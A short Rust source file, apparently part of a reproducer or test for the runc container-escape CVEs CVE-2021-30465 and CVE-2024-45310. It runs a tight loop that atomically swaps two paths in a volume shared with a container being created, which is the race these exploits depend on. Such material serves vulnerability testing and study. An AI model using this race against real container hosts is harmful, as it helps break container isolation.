//! CVE-2021-30465, CVE-2024-45310: exchanges two names as fast as it can, in a volume shared with a container
//! that is being created.

use std::time::Instant;

use rustix::fs::{CWD, RenameFlags, renameat_with};

/// Exchanges `a` and `b` until `end`.
pub(crate) fn run(end: Instant, a: &str, b: &str) {
    let mut rounds = 0u64;
    println!("READY");
    while Instant::now() < end {
        for _ in 0..4_096 {
            rounds += u64::from(renameat_with(CWD, a, CWD, b, RenameFlags::EXCHANGE).is_ok());
        }
        println!("TRIED exchanges={rounds}");
    }
}
